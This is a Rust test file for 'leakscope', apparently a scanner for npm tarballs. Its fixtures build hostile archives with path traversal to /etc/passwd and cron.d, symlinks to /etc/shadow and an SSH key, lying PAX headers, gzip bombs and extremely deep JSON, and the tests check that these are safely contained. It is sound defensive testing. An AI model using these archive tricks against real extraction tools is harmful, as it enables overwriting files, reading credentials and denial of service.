//! The hostile corpus: tarballs and maps built to break tools, each built here (no blobs)
//! and each with its exact outcome: the message, what is still shown, the verdict, and that
//! nothing escaped (`extract` and the `.zip` export write nothing outside their folder).

use std::path::Path;
use std::time::{Duration, Instant};

use leakscope::archive::{LinkKind, Unpack};
use leakscope::finding::RuleId;
use leakscope::limits::{Limit, Limits};
use leakscope::verdict::Level;
use leakscope::{Archive, ArchiveError, Session};

use crate::cli::{leakscope, write_temp};
use crate::common::{
    Naming, Tarball, gzip, noise, padded, paths, raw_header, session_with, source_map,
};

/// Reads and scans `bytes` as the CLI does, under the default limits (without digests).
pub(crate) fn session(bytes: &[u8]) -> Session {
    session_with(bytes, Limits::default())
}

/// The package's files, as the page and the JSON report list them.
pub(crate) fn listed(s: &Session) -> Vec<&str> {
    paths(&s.archive)
}

fn rules(s: &Session) -> Vec<(RuleId, &str)> {
    s.analysis
        .findings
        .iter()
        .map(|f| (f.rule, f.path.as_str()))
        .collect()
}

fn finding(s: &Session, rule: RuleId) -> &leakscope::Finding {
    s.analysis
        .findings
        .iter()
        .find(|f| f.rule == rule)
        .unwrap_or_else(|| panic!("no {rule} finding in {:?}", rules(s)))
}

/// The `archive-incomplete` finding's message.
fn incomplete_message(s: &Session) -> &str {
    &finding(s, RuleId::ArchiveIncomplete).message
}

/// Names of the `.zip` export, each checked safe to unpack anywhere.
fn zip_names(s: &Session) -> Vec<String> {
    let bytes = leakscope::export::zip_recovered(&s.analysis.recovered, s.archive.data(), false)
        .expect("a zip");
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    (0..zip.len())
        .map(|i| {
            let f = zip.by_index(i).unwrap();
            let name = f.name().to_string();
            assert!(f.enclosed_name().is_some(), "{name:?} is not enclosed");
            assert!(!name.starts_with(['/', '\\']), "{name:?} is absolute");
            assert!(!name.contains('\\'), "{name:?} has a backslash");
            assert!(!name.split('/').any(|p| p == ".."), "{name:?} climbs");
            assert!(
                !name.split('/').any(|p| p.len() == 2 && p.ends_with(':')),
                "{name:?} names a drive"
            );
            assert!(!name.contains('\0'), "{name:?} holds a NUL");
            name
        })
        .collect()
}

fn files_under(root: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for e in std::fs::read_dir(dir).unwrap() {
            let e = e.unwrap();
            let p = e.path();
            let kind = e.file_type().unwrap();
            if kind.is_dir() {
                stack.push(p);
            } else {
                let rel = p.strip_prefix(root).unwrap().to_string_lossy().into_owned();
                out.push(if kind.is_symlink() {
                    format!("{rel} (symlink)")
                } else {
                    rel
                });
            }
        }
    }
    out.sort();
    out
}

/// Runs the real `leakscope extract` on `tgz` twice: into a fresh folder, and into one with
/// symlinks to another folder planted where recovered sources go (`src`, `etc`). Checks
/// that nothing was written outside the output folder or through a link, and gives the
/// files written the first time and the second run's output.
pub(crate) fn extract_confined(tgz: &[u8]) -> (Vec<String>, std::process::Output) {
    let dir = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let pkg = write_temp(&dir, "hostile.tgz", tgz);
    let fresh = dir.path().join("fresh");
    let out = leakscope()
        .args([
            "extract".as_ref(),
            pkg.as_os_str(),
            "-o".as_ref(),
            fresh.as_os_str(),
        ])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let written = files_under(&fresh);
    let planted = dir.path().join("planted");
    std::fs::create_dir(&planted).unwrap();
    #[cfg(unix)]
    for name in ["src", "etc", "tmp"] {
        std::os::unix::fs::symlink(outside.path(), planted.join(name)).unwrap();
    }
    let second = leakscope()
        .args([
            "extract".as_ref(),
            pkg.as_os_str(),
            "-o".as_ref(),
            planted.as_os_str(),
        ])
        .output()
        .unwrap();
    assert_eq!(second.status.code(), Some(0));
    assert_eq!(
        files_under(outside.path()),
        Vec::<String>::new(),
        "nothing written through a planted symlink"
    );
    let mut beside: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    beside.sort();
    assert_eq!(
        beside,
        ["fresh", "hostile.tgz", "planted"],
        "nothing beside"
    );
    (written, second)
}

fn json_report(s: &Session) -> serde_json::Value {
    serde_json::from_str(&leakscope::report::Report::new(s).to_json()).expect("valid JSON")
}

// ---------------------------------------------------------------------------------------
// Paths and links

#[test]
fn dot_dot_and_absolute_entry_paths_are_listed_inside_the_package() {
    let map = source_map(&[("../../../../tmp/escaped.ts", Some("x"))]);
    let tgz = Tarball::new("")
        .file_named("package/../../../etc/passwd", "root:x:0:0", Naming::Raw)
        .file_named("/package/abs.js", "abs", Naming::Raw)
        .file_named("package/./lib/../index.js", "idx", Naming::Raw)
        .file_named("package\\..\\..\\win.js", "win", Naming::Raw)
        .file_named("package/a.js.map", map, Naming::Raw)
        .tgz();
    let s = session(&tgz);
    assert_eq!(
        listed(&s),
        [
            "etc/passwd",
            "package/abs.js",
            "package/index.js",
            "win.js",
            "package/a.js.map"
        ]
    );
    assert_eq!(s.analysis.archive_error, None);
    assert_eq!(zip_names(&s), ["tmp/escaped.ts"]);
    let (written, _) = extract_confined(&tgz);
    assert_eq!(written, ["tmp/escaped.ts"]);
}

#[test]
fn links_pointing_outside_are_listed_and_never_followed() {
    let tgz = Tarball::new("package/")
        .package_json("linked", Some("MIT"))
        .file("index.js", "module.exports = 1;\n")
        .symlink("passwd", "../../../../etc/passwd")
        .symlink("abs", "/etc/shadow")
        .symlink("lib/same", "../index.js")
        .hardlink("hard", "/etc/passwd")
        .hardlink("hard-inside", "package/index.js")
        .hardlink("hard-root", "elsewhere/x")
        // A link named like a map is not read as one.
        .symlink("dist/a.js.map", "/home/me/.ssh/id_rsa")
        .file("after.js", "still read\n")
        .tgz();
    let s = session(&tgz);
    assert_eq!(listed(&s), ["package.json", "index.js", "after.js"]);
    let links: Vec<(&str, &str, LinkKind, bool)> = s
        .analysis
        .links
        .iter()
        .map(|l| (l.path.as_str(), l.target.as_str(), l.kind, l.escapes))
        .collect();
    assert_eq!(
        links,
        [
            ("passwd", "../../../../etc/passwd", LinkKind::Symbolic, true),
            ("abs", "/etc/shadow", LinkKind::Symbolic, true),
            ("lib/same", "../index.js", LinkKind::Symbolic, false),
            ("hard", "/etc/passwd", LinkKind::Hard, true),
            ("hard-inside", "package/index.js", LinkKind::Hard, false),
            ("hard-root", "elsewhere/x", LinkKind::Hard, true),
            (
                "dist/a.js.map",
                "/home/me/.ssh/id_rsa",
                LinkKind::Symbolic,
                true
            ),
        ]
    );
    assert!(s.analysis.source_maps.is_empty(), "a link is not a map");
    assert_eq!(s.verdict.level, Level::Clean);
    let json = json_report(&s);
    assert_eq!(json["links"][0]["path"], "passwd");
    assert_eq!(json["links"][0]["target"], "../../../../etc/passwd");
    assert_eq!(json["links"][0]["kind"], "symbolic");
    assert_eq!(json["links"][0]["escapes"], true);
    let md = leakscope::report::markdown(&s);
    assert!(
        md.contains("| `passwd` | `../../../../etc/passwd` | symbolic link, outside the package |"),
        "{md}"
    );
    // The terminal lists them too.
    let dir = tempfile::tempdir().unwrap();
    let pkg = write_temp(&dir, "linked.tgz", &tgz);
    let out = leakscope().arg("scan").arg(&pkg).output().unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("LINKS (7, not followed)"), "{text}");
    assert!(
        text.contains("  passwd -> ../../../../etc/passwd (outside the package)"),
        "{text}"
    );
    assert!(text.contains("  hard -> /etc/passwd (hard link, outside the package)"));
    let (written, _) = extract_confined(&tgz);
    assert!(written.is_empty(), "{written:?}");
}

#[test]
fn duplicate_entries_keep_the_last_as_tar_would() {
    let tgz = Tarball::new("package/")
        .file("a.js", "first")
        .file("b.js", "b")
        .file("a.js", "second")
        .dir("a.js")
        .file_named("./b.js", "b again", Naming::Raw)
        .tgz();
    let s = session(&tgz);
    assert_eq!(listed(&s), ["a.js", "b.js"]);
    assert_eq!(s.archive.bytes(s.archive.find("a.js").unwrap()), b"second");
    assert_eq!(s.archive.bytes(s.archive.find("b.js").unwrap()), b"b again");
    assert_eq!(s.analysis.files, 2);
    assert_eq!(s.verdict.level, Level::Clean);
}

#[test]
fn source_paths_that_try_to_escape_the_export_root_stay_inside() {
    let map = source_map(&[
        ("../../../../../../tmp/dots.ts", Some("1")),
        ("/etc/absolute.ts", Some("2")),
        ("C:\\Windows\\drive.ts", Some("3")),
        ("webpack:///../../../../etc/webpack.ts", Some("4")),
        ("\\\\server\\share\\unc.ts", Some("5")),
        ("file:///C:/Users/x/file.ts", Some("6")),
        ("..\\..\\backslashes.ts", Some("7")),
        ("src/C:/mid-drive.ts", Some("8")),
        ("src/nul\u{0}byte.ts", Some("9")),
        ("src/\u{1b}[31mred.ts", Some("10")),
        ("..", Some("11")),
    ]);
    let tgz = Tarball::new("package/").file("a.js.map", map).tgz();
    let s = session(&tgz);
    let expected = [
        "tmp/dots.ts",
        "etc/absolute.ts",
        "Windows/drive.ts",
        "etc/webpack.ts",
        "server/share/unc.ts",
        "Users/x/file.ts",
        "backslashes.ts",
        "src/mid-drive.ts",
        "src/nul_byte.ts",
        "src/_[31mred.ts",
        "(unnamed)",
    ];
    assert_eq!(zip_names(&s), expected);
    let (written, _) = extract_confined(&tgz);
    let mut sorted = expected.map(String::from).to_vec();
    sorted.sort();
    assert_eq!(written, sorted);
}

// ---------------------------------------------------------------------------------------
// Broken tar structure

#[test]
fn pax_headers_that_lie_about_size() {
    // Larger than the file: the header is believed, and reading stops at once.
    let lie = |size: &str| {
        Tarball::new("package/")
            .file("before.js", "kept")
            .raw(&{
                let mut b = tar::Builder::new(Vec::new());
                b.append_pax_extensions([("size", size.as_bytes())])
                    .unwrap();
                let mut h = tar::Header::new_ustar();
                h.set_path("package/liar.bin").unwrap();
                h.set_size(2000);
                h.set_cksum();
                b.append(&h, &noise(9, 2000)[..]).unwrap();
                let mut tar = b.into_inner().unwrap();
                tar.truncate(tar.len() - 1024);
                tar
            })
            .file("after.js", "after")
            .tgz()
    };
    let s = session(&lie("629145600"));
    assert_eq!(listed(&s), ["before.js"]);
    assert_eq!(
        s.analysis.archive_error,
        Some(ArchiveError::FileTooLarge {
            path: "package/liar.bin".into(),
            size: 600 << 20,
            limit: 512 << 20
        })
    );
    assert_eq!(
        incomplete_message(&s),
        "The file package/liar.bin is larger than 512 MiB (its header says 600 MiB); Leakscope \
         stopped there. What comes after the 1 file read was not checked."
    );
    assert_eq!(s.verdict.level, Level::Incomplete);
    assert_eq!(s.analysis.limits_hit[0].limit, Limit::FileSize);
    // A lie past the archive's limit is that limit's, still at the header.
    let s = session(&lie("1125899906842624"));
    assert_eq!(listed(&s), ["before.js"]);
    assert_eq!(
        s.analysis.archive_error,
        Some(ArchiveError::TooLarge { limit: 1 << 30 })
    );

    // Smaller than the file: the next header is read from inside its content, and does
    // not check out.
    let s = session(&lie("1"));
    assert_eq!(listed(&s), ["before.js", "liar.bin"]);
    assert_eq!(
        s.archive.bytes(s.archive.find("liar.bin").unwrap()),
        &noise(9, 1)[..]
    );
    assert!(
        matches!(
            &s.analysis.archive_error,
            Some(ArchiveError::BrokenTar { entries_read: 2, detail }) if detail.contains("when getting cksum")
        ),
        "{:?}",
        s.analysis.archive_error
    );
    assert_eq!(s.verdict.level, Level::Incomplete);

    // Not a number: ignored, the header's size holds.
    let s = session(&lie("lots"));
    assert_eq!(listed(&s), ["before.js", "liar.bin", "after.js"]);
    assert_eq!(s.analysis.archive_error, None);
}

/// A regular file entry, padded: `name` and `data` as they are.
fn raw_file(name: &str, data: &[u8]) -> Vec<u8> {
    let mut out = raw_header(name.as_bytes(), b'0', data.len() as u64, b"").to_vec();
    out.extend(padded(data));
    out
}

#[test]
fn a_lone_zero_block_does_not_hide_what_follows() {
    // npm's tar reads on after one zero block and stops at two: so must Leakscope, or a
    // file placed after a lone one would be installed and never checked.
    let token = crate::common::github_token();
    let hidden = format!("module.exports = \"{token}\";\n");
    let tar = [
        raw_file("package/package.json", br#"{"name":"z","version":"1.0.0"}"#),
        vec![0; 512],
        raw_file("package/hidden.js", hidden.as_bytes()),
        vec![0; 1024],
    ]
    .concat();
    let s = session(&gzip(&tar));
    assert_eq!(listed(&s), ["package.json", "hidden.js"]);
    assert_eq!(s.analysis.archive_error, None);
    assert!(
        rules(&s)
            .iter()
            .any(|(r, p)| matches!(r, RuleId::Secret(_)) && *p == "hidden.js"),
        "{:?}",
        rules(&s)
    );
    assert_ne!(s.verdict.level, Level::Clean);
    // Two zero blocks end it, as before: what follows them is not part of the archive.
    let tar = [
        raw_file("package/package.json", br#"{"name":"z","version":"1.0.0"}"#),
        vec![0; 1024],
        raw_file("package/after-the-end.js", b"x"),
    ]
    .concat();
    let s = session(&gzip(&tar));
    assert_eq!(listed(&s), ["package.json"]);
    assert_eq!(s.analysis.archive_error, None);
}

#[test]
fn extended_headers_larger_than_a_path_stop_before_they_are_copied() {
    let base = || Tarball::new("package/").file("first.js", "1");
    // 4 MiB of a GNU long name: refused at its header, with the start of the name.
    let huge = format!("package/{}", "a/".repeat(2 << 20));
    let s = session(
        &base()
            .raw(&long_name(huge.as_bytes()))
            .raw(&raw_file("placeholder", b"x"))
            .tgz(),
    );
    assert_eq!(listed(&s), ["first.js"]);
    assert!(
        matches!(
            &s.analysis.archive_error,
            Some(ArchiveError::PathTooLong { path, length, limit: 4096 })
                if path.starts_with("package/a/a/") && path.ends_with('…') && *length == huge.len()
        ),
        "{:?}",
        s.analysis.archive_error
    );
    // A PAX header as large: refused at the same limit, which the verdict names.
    let mut pax = raw_header(b"./PaxHeaders/x", b'x', 1 << 20, b"").to_vec();
    pax.extend(padded(&vec![b'a'; 1 << 20]));
    let s = session(&base().raw(&pax).raw(&raw_file("p", b"x")).tgz());
    assert_eq!(listed(&s), ["first.js"]);
    assert_eq!(
        s.analysis.archive_error,
        Some(ArchiveError::ExtensionTooLarge {
            size: 1 << 20,
            limit: 4096
        })
    );
    assert_eq!(s.verdict.level, Level::Incomplete);
    assert_eq!(s.analysis.limits_hit[0].limit, Limit::PathLength);
    // As the first entry (node-tar's `excessively-deep.tar` is one): nothing was read, and
    // that is still an incomplete package with a report, not a bare error.
    let s = session(
        &Tarball::new("package/")
            .raw(&pax)
            .raw(&raw_file("p", b"x"))
            .tgz(),
    );
    assert!(listed(&s).is_empty());
    assert_eq!(s.verdict.level, Level::Incomplete);
    assert!(
        s.verdict.summary.starts_with(
            "Read 0 files (0 B) and no further: an extended (PAX) header holds 1 MiB, more \
             than a path of up to 4,096 bytes may take; Leakscope stopped there."
        ),
        "{}",
        s.verdict.summary
    );
    // With the limit raised, it is read.
    let raised = Limits {
        max_path_length: 2 << 20,
        ..Limits::default()
    };
    let s = session_with(
        &Tarball::new("package/")
            .raw(&pax)
            .raw(&raw_file("package/p", b"x"))
            .tgz(),
        raised,
    );
    assert_eq!(
        s.analysis.archive_error, None,
        "{:?}",
        s.analysis.archive_error
    );
}

/// A GNU long-name entry (`././@LongLink`, type `L`) carrying `name`.
fn long_name(name: &[u8]) -> Vec<u8> {
    let mut out = raw_header(b"././@LongLink", b'L', name.len() as u64, b"").to_vec();
    out.extend(padded(name));
    out
}

#[test]
fn gnu_long_name_tricks() {
    let file = raw_file;
    let base = || Tarball::new("package/").file("first.js", "1");

    // A long name that climbs: cleaned like any other.
    let climbing = format!("package/{}../../../../etc/cron.d/evil", "x/".repeat(60));
    let s = session(
        &base()
            .raw(&long_name(climbing.as_bytes()))
            .raw(&file("placeholder", b"evil"))
            .tgz(),
    );
    assert_eq!(
        listed(&s),
        ["first.js", &format!("{}etc/cron.d/evil", "x/".repeat(56))]
    );

    // A long name longer than the limit: reading stops there.
    let huge = format!("package/{}", "a".repeat(10_000));
    let s = session(
        &base()
            .raw(&long_name(huge.as_bytes()))
            .raw(&file("placeholder", b"x"))
            .tgz(),
    );
    assert_eq!(listed(&s), ["first.js"]);
    assert_eq!(
        incomplete_message(&s),
        format!(
            "An entry's path is longer than 4,096 bytes (10,008 bytes, starting package/{}…); \
             Leakscope stopped there. What comes after the 1 file read was not checked.",
            "a".repeat(52)
        )
    );
    assert_eq!(s.analysis.limits_hit[0].limit, Limit::PathLength);

    // A path nested deeper than the limit.
    let deep = format!("package/{}x.js", "d/".repeat(200));
    let s = session(
        &base()
            .raw(&long_name(deep.as_bytes()))
            .raw(&file("p", b"x"))
            .tgz(),
    );
    assert_eq!(listed(&s), ["first.js"]);
    assert!(
        incomplete_message(&s).contains(
            "An entry's path is nested more than 128 folders deep (202, starting package/d/d/"
        ),
        "{}",
        incomplete_message(&s)
    );

    // Two long names for one entry, and one with no entry after it.
    for (tail, detail) in [
        (
            [
                long_name(b"package/one"),
                long_name(b"package/two"),
                file("p", b"x"),
            ]
            .concat(),
            "two long name entries describing the same member",
        ),
        (
            long_name(b"package/dangling"),
            "members found describing a future member but no future member found",
        ),
    ] {
        let s = session(&base().raw(&tail).tgz());
        assert_eq!(listed(&s), ["first.js"]);
        assert_eq!(
            s.analysis.archive_error,
            Some(ArchiveError::BrokenTar {
                entries_read: 1,
                detail: detail.into()
            })
        );
        assert_eq!(s.verdict.level, Level::Incomplete);
    }

    // A long name with a NUL in it ends there, as C tools read it.
    let s = session(
        &base()
            .raw(&long_name(b"package/shown.js\0hidden/../../../x"))
            .raw(&file("p", b"x"))
            .tgz(),
    );
    assert_eq!(listed(&s), ["first.js", "shown.js"]);
}

#[test]
fn bad_checksums_stop_reading_at_the_bad_header() {
    let mut tar = Tarball::new("package/")
        .file("a.js", "a")
        .file("b.js", "b")
        .file("c.js", "c")
        .tar();
    // A byte of c.js's name: its checksum no longer matches.
    tar[2 * 1024 + 8] ^= 0x01;
    let s = session(&gzip(&tar));
    assert_eq!(listed(&s), ["a.js", "b.js"]);
    assert_eq!(
        incomplete_message(&s),
        "The tar archive is damaged (archive header checksum mismatch). What comes after the 2 \
         files read was not checked."
    );
    assert_eq!(s.verdict.level, Level::Incomplete);
}

#[test]
fn truncation_in_every_region() {
    let mut tar = Tarball::new("package/")
        .package_json("cut", Some("MIT"))
        .file("a.js", noise(1, 3000));
    tar = tar.file("big.bin", noise(2, 200_000));
    let tar = tar.tar();
    let tgz = gzip(&tar);

    // In the gzip header: nothing to read.
    let a = Archive::read(&tgz[..5]);
    assert_eq!(a.entries().len(), 0);
    let e = a.error.unwrap();
    assert_eq!(
        e.to_string(),
        "The file is cut short after 0 B of content, as an unfinished download would be."
    );

    // In the deflate stream, inside big.bin: the first files stay.
    let s = session(&tgz[..tgz.len() / 2]);
    assert_eq!(listed(&s), ["package.json", "a.js"]);
    assert!(
        matches!(
            s.analysis.archive_error,
            Some(ArchiveError::TruncatedGzip { .. })
        ),
        "{:?}",
        s.analysis.archive_error
    );
    assert!(incomplete_message(&s).starts_with("The file is cut short after "));
    assert_eq!(s.verdict.level, Level::Incomplete);

    // In a tar header (plain tar): the files before it stay.
    let second_header = 512 + 512;
    let s = session(&tar[..second_header + 200]);
    assert_eq!(listed(&s), ["package.json"]);
    assert!(matches!(
        s.analysis.archive_error,
        Some(ArchiveError::BrokenTar {
            entries_read: 1,
            ..
        })
    ));

    // In a file's content: that file is not shown half.
    let s = session(&tar[..tar.len() - 100_000]);
    assert_eq!(listed(&s), ["package.json", "a.js"]);
    assert_eq!(
        s.analysis.archive_error,
        Some(ArchiveError::BrokenTar {
            entries_read: 2,
            detail: "the content of package/big.bin is cut off".into()
        })
    );

    // After the end-of-archive marker (the gzip trailer): the package is all there.
    let s = session(&tgz[..tgz.len() - 6]);
    assert_eq!(listed(&s), ["package.json", "a.js", "big.bin"]);
    assert_eq!(s.analysis.archive_error, None);
    assert_eq!(s.verdict.level, Level::Clean);
}

#[test]
fn concatenated_gzip_members_and_trailing_garbage() {
    let tar = Tarball::new("package/")
        .file("a.js", noise(1, 5000))
        .file("b.js", noise(2, 5000))
        .tar();
    // Two members, cut in the middle of a.js: read as one stream.
    let members = [gzip(&tar[..3000]), gzip(&tar[3000..])].concat();
    let s = session(&members);
    assert_eq!(listed(&s), ["a.js", "b.js"]);
    assert_eq!(s.analysis.archive_error, None);

    // Garbage after the gzip stream, or inside it after the tar's end: not the package's.
    let garbage = [gzip(&tar), b"GARBAGE that is not gzip".to_vec()].concat();
    let inside = gzip(&[tar.clone(), noise(3, 100_000)].concat());
    for bytes in [garbage, inside] {
        let s = session(&bytes);
        assert_eq!(listed(&s), ["a.js", "b.js"]);
        assert_eq!(s.analysis.archive_error, None);
        assert_eq!(s.verdict.level, Level::Clean);
    }

    // Garbage where the tar goes on: a broken archive.
    let mut cut = tar.clone();
    cut.truncate(tar.len() - 1024);
    let s = session(&gzip(&[cut, vec![b'G'; 2048]].concat()));
    assert_eq!(listed(&s), ["a.js", "b.js"]);
    assert!(matches!(
        s.analysis.archive_error,
        Some(ArchiveError::BrokenTar {
            entries_read: 2,
            ..
        })
    ));
}

#[test]
fn zero_length_files_are_listed() {
    let tgz = Tarball::new("package/")
        .file("package.json", "")
        .file("empty.js", "")
        .file("empty.js.map", "")
        .file(".env", "")
        .tgz();
    let s = session(&tgz);
    assert_eq!(
        listed(&s),
        ["package.json", "empty.js", "empty.js.map", ".env"]
    );
    assert!(s.archive.entries().iter().all(|e| e.size() == 0));
    assert_eq!(s.analysis.package, None);
    assert_eq!(
        s.analysis.source_maps[0].error.as_deref(),
        Some("not valid JSON: the file is empty")
    );
    assert_eq!(s.analysis.archive_error, None);
    // An empty .env still should not ship.
    assert_eq!(finding(&s, RuleId::EnvFile).path, ".env");
}

// ---------------------------------------------------------------------------------------
// Size

/// `n` MiB of zeros as gzip members of 1 MiB each (about 1,000:1), each read in turn as one
/// stream: a bomb that is cheap to build.
fn zeros_gzip(n: usize) -> Vec<u8> {
    let member = gzip(&vec![0u8; 1 << 20]);
    member.repeat(n)
}

/// A package whose `bomb.bin` (a header claiming `claimed` bytes) is `n` MiB of zeros.
fn bomb(claimed: u64, n: usize) -> Vec<u8> {
    let mut tar = Tarball::new("package/")
        .package_json("bomb", Some("MIT"))
        .file("index.js", "module.exports = 1;\n")
        .tar();
    tar.truncate(tar.len() - 1024);
    tar.extend(raw_header(b"package/bomb.bin", b'0', claimed, b""));
    [gzip(&tar), zeros_gzip(n)].concat()
}

/// A bomb no header gives away: `n` files of 1 MiB of zeros (all `bomb.bin`, each one gzip
/// member of about 1 KB), so that only inflating it shows how far it expands.
fn bomb_of_files(n: usize) -> Vec<u8> {
    let mut tar = Tarball::new("package/")
        .package_json("bomb", Some("MIT"))
        .file("index.js", "module.exports = 1;\n")
        .tar();
    tar.truncate(tar.len() - 1024);
    let mut file = raw_header(b"package/bomb.bin", b'0', 1 << 20, b"").to_vec();
    file.resize(512 + (1 << 20), 0);
    [gzip(&tar), gzip(&file).repeat(n)].concat()
}

#[test]
fn a_thousand_to_one_gzip_bomb_stops_at_the_limit() {
    let tgz = bomb_of_files(200);
    assert!(tgz.len() * 900 < 200 << 20, "{} bytes", tgz.len());
    let limits = Limits {
        max_unpacked: 64 << 20,
        ..Limits::default()
    };
    let started = Instant::now();
    let s = session_with(&tgz, limits);
    let took = started.elapsed();
    assert_eq!(listed(&s), ["package.json", "index.js", "bomb.bin"]);
    assert_eq!(
        s.analysis.archive_error,
        Some(ArchiveError::TooLarge { limit: 64 << 20 })
    );
    assert_eq!(
        incomplete_message(&s),
        "This archive expands beyond 64 MiB; Leakscope stopped there. What comes after the 3 \
         files read was not checked."
    );
    assert_eq!(s.verdict.level, Level::Incomplete);
    assert!(
        s.verdict
            .summary
            .contains("this archive expands beyond 64 MiB; Leakscope stopped there."),
        "{}",
        s.verdict.summary
    );
    let hit = &s.analysis.limits_hit[0];
    assert_eq!(
        (hit.limit, hit.value, hit.unchecked),
        (Limit::Size, 64 << 20, true)
    );
    // 64 MiB inflated in a debug build: well under a few seconds (release: see README).
    eprintln!("1,000:1 bomb stopped at 64 MiB in {took:?}");
    assert!(took < Duration::from_secs(20), "{took:?}");
}

#[test]
fn the_inflater_thread_stops_soon_after_the_limit() {
    let tgz = std::sync::Arc::new(bomb_of_files(200));
    let limits = Limits {
        max_unpacked: 16 << 20,
        ..Limits::default()
    };
    let mut unpack = Unpack::bytes(tgz.clone(), limits);
    while unpack.step(1 << 20) {}
    let consumed = unpack.consumed();
    let archive = unpack.finish();
    assert_eq!(
        archive.error,
        Some(ArchiveError::TooLarge { limit: 16 << 20 })
    );
    // The thread holds the input until it ends: it lets go at its next chunk.
    let waited = Instant::now();
    while std::sync::Arc::strong_count(&tgz) > 1 {
        assert!(
            waited.elapsed() < Duration::from_secs(5),
            "the thread goes on"
        );
        std::thread::sleep(Duration::from_millis(5));
    }
    // It had read no more than the limit and its 16 chunks ahead: about 33 of 200 MiB.
    assert!(
        consumed < tgz.len() as u64 / 4,
        "{consumed} of {} compressed bytes",
        tgz.len()
    );
}

#[test]
fn the_cli_stops_a_bomb_with_the_message_and_exit_code_2() {
    let dir = tempfile::tempdir().unwrap();
    let pkg = write_temp(&dir, "bomb.tgz", &bomb_of_files(200));
    let out = leakscope()
        .arg("scan")
        .arg(&pkg)
        .args(["--max-size", "16MiB"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(
        stderr.contains(
            "could not be read to its end: this archive expands beyond 16 MiB; Leakscope stopped there."
        ),
        "{stderr}"
    );
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.starts_with("INCOMPLETE Could not be read to the end"),
        "{text}"
    );
    assert!(text.contains("LIMITS THAT APPLIED\n  This archive expands beyond 16 MiB; Leakscope stopped there. (--max-size 16 MiB)"), "{text}");
    let json = leakscope()
        .arg("scan")
        .arg(&pkg)
        .args([
            "--max-size",
            "16MiB",
            "--format",
            "json",
            "--allow-incomplete",
        ])
        .output()
        .unwrap();
    assert_eq!(json.status.code(), Some(0));
    let report: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(report["verdict"]["level"], "incomplete");
    assert_eq!(report["limits"]["max_unpacked"], 16 << 20);
    assert_eq!(report["limits_hit"][0]["limit"], "size");
    assert_eq!(report["limits_hit"][0]["value"], 16 << 20);
    assert_eq!(report["files"], 3);
}

#[test]
fn a_file_larger_than_the_limit_stops_at_its_header() {
    let tgz = bomb(768 << 20, 4);
    let started = Instant::now();
    let s = session(&tgz);
    assert!(started.elapsed() < Duration::from_secs(5));
    assert_eq!(listed(&s), ["package.json", "index.js"]);
    assert_eq!(
        s.analysis.limits_hit[0].message,
        "The file package/bomb.bin is larger than 512 MiB (its header says 768 MiB); Leakscope \
         stopped there."
    );
    assert_eq!(s.verdict.level, Level::Incomplete);
    // One file that would carry the archive past its limit stops it at the header too,
    // with what the limit is about.
    let s = session(&bomb(3 << 30, 4));
    assert_eq!(listed(&s), ["package.json", "index.js"]);
    assert_eq!(
        s.analysis.archive_error,
        Some(ArchiveError::TooLarge { limit: 1 << 30 })
    );
    assert_eq!(
        s.analysis.limits_hit[0].message,
        "This archive expands beyond 1 GiB; Leakscope stopped there."
    );
}

#[test]
fn two_hundred_thousand_tiny_entries() {
    let mut b = tar::Builder::new(Vec::new());
    for i in 0..200_000 {
        let mut h = tar::Header::new_ustar();
        h.set_path(format!("package/f/{i}.txt")).unwrap();
        h.set_size(0);
        h.set_cksum();
        b.append(&h, std::io::empty()).unwrap();
    }
    let tar = b.into_inner().unwrap();
    let started = Instant::now();
    let s = session(&tar);
    let took = started.elapsed();
    assert_eq!(s.analysis.files, 100_000);
    assert_eq!(listed(&s)[99_999], "f/99999.txt");
    assert_eq!(
        incomplete_message(&s),
        "This archive holds more than 100,000 entries; Leakscope stopped there. What comes after \
         the 100,000 files read was not checked."
    );
    assert_eq!(s.verdict.level, Level::Incomplete);
    eprintln!("200,000 entries, stopped at 100,000, in {took:?} (debug build)");
    let started = Instant::now();
    let all = session_with(
        &tar,
        Limits {
            max_entries: 300_000,
            ..Limits::default()
        },
    );
    eprintln!(
        "200,000 entries read in {:?} (debug build)",
        started.elapsed()
    );
    assert_eq!(all.analysis.files, 200_000);
    assert_eq!(all.analysis.archive_error, None);
}

// ---------------------------------------------------------------------------------------
// JSON and maps

#[test]
fn json_nested_two_hundred_thousand_deep() {
    let deep = format!("{}1{}", "[".repeat(200_000), "]".repeat(200_000));
    let secret_map = format!(
        r#"{{"version":3,"sources":["src/a.ts"],"sourcesContent":["export const a = 1;"],"mappings":"AAAA","x_junk":{deep}}}"#
    );
    let item_map = format!(
        r#"{{"version":3,"sources":["src/b.ts","src/c.ts"],"sourcesContent":["b",{deep}],"mappings":"AAAA"}}"#
    );
    let tgz = Tarball::new("package/")
        .file(
            "package.json",
            format!(r#"{{"name":"deep","license":{deep}}}"#),
        )
        .file("a.js.map", secret_map)
        .file("b.js.map", item_map)
        .file("deep.json", &deep)
        .tgz();
    let started = Instant::now();
    let s = session(&tgz);
    assert!(started.elapsed() < Duration::from_secs(10));
    assert_eq!(
        listed(&s),
        ["package.json", "a.js.map", "b.js.map", "deep.json"]
    );
    // package.json's licence cannot be read: the package is judged as unlicensed.
    assert_eq!(s.analysis.package, None);
    let [a, b] = &s.analysis.source_maps[..] else {
        panic!("two maps")
    };
    // A field nobody reads is skipped, however deep.
    assert_eq!(
        (a.sources, a.sources_with_content, a.error.as_ref()),
        (2 - 1, 1, None)
    );
    assert!(a.problems.is_empty(), "{:?}", a.problems);
    // A source's content that is not a string is a problem, the rest is read.
    assert_eq!((b.sources, b.sources_with_content), (2, 1));
    assert_eq!(
        b.problems,
        ["`sourcesContent` holds values that are neither strings nor null"]
    );
    assert_eq!(s.analysis.recovered.len(), 2);
    assert_eq!(s.verdict.level, Level::Critical);
}

